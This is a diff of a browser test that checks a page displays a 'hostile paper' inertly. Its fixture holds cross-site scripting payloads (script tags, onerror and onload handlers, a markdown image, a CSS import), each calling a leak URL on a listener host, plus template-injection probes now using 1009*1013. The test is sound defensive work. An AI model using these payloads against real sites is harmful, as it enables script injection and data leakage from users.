@@ -109,7 +109,7 @@ def assistant(
 
 
 def _hostile_paper(elsewhere: str) -> dict[str, object]:
-    leak, template = f"{elsewhere}/?leak", "{{7*7}} ${7*7}"
+    leak, template = f"{elsewhere}/?leak", "{{1009*1013}} ${1009*1013}"
     attack = (
         f"<script>fetch('{leak}')</script> <img src='{leak}' onerror=\"fetch('{leak}')\">"
         f" \"><svg onload=\"fetch('{leak}')\"> ![x]({leak}) <style>@import '{leak}'</style>"
@@ -406,8 +406,8 @@ def test_a_hostile_paper_is_inert_and_reaches_nobody(
     inside = page.locator("#pa-turns, #pa-papers")
     assert inside.locator("script, img, svg, style, iframe, link").count() == 0
     assert "onload" in inside.last.inner_text()
-    expect(page.locator("#pa-papers")).to_contain_text("{{7*7}} ${7*7}")
-    expect(page.locator("#pa-papers")).not_to_contain_text("49")
+    expect(page.locator("#pa-papers")).to_contain_text("{{1009*1013}} ${1009*1013}")
+    expect(page.locator("#pa-papers")).not_to_contain_text("1022117")
     hrefs = inside.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href'))")
     outward = {href for href in hrefs if not href.startswith("#")}
     assert f"{listener[0]}/paper" in outward
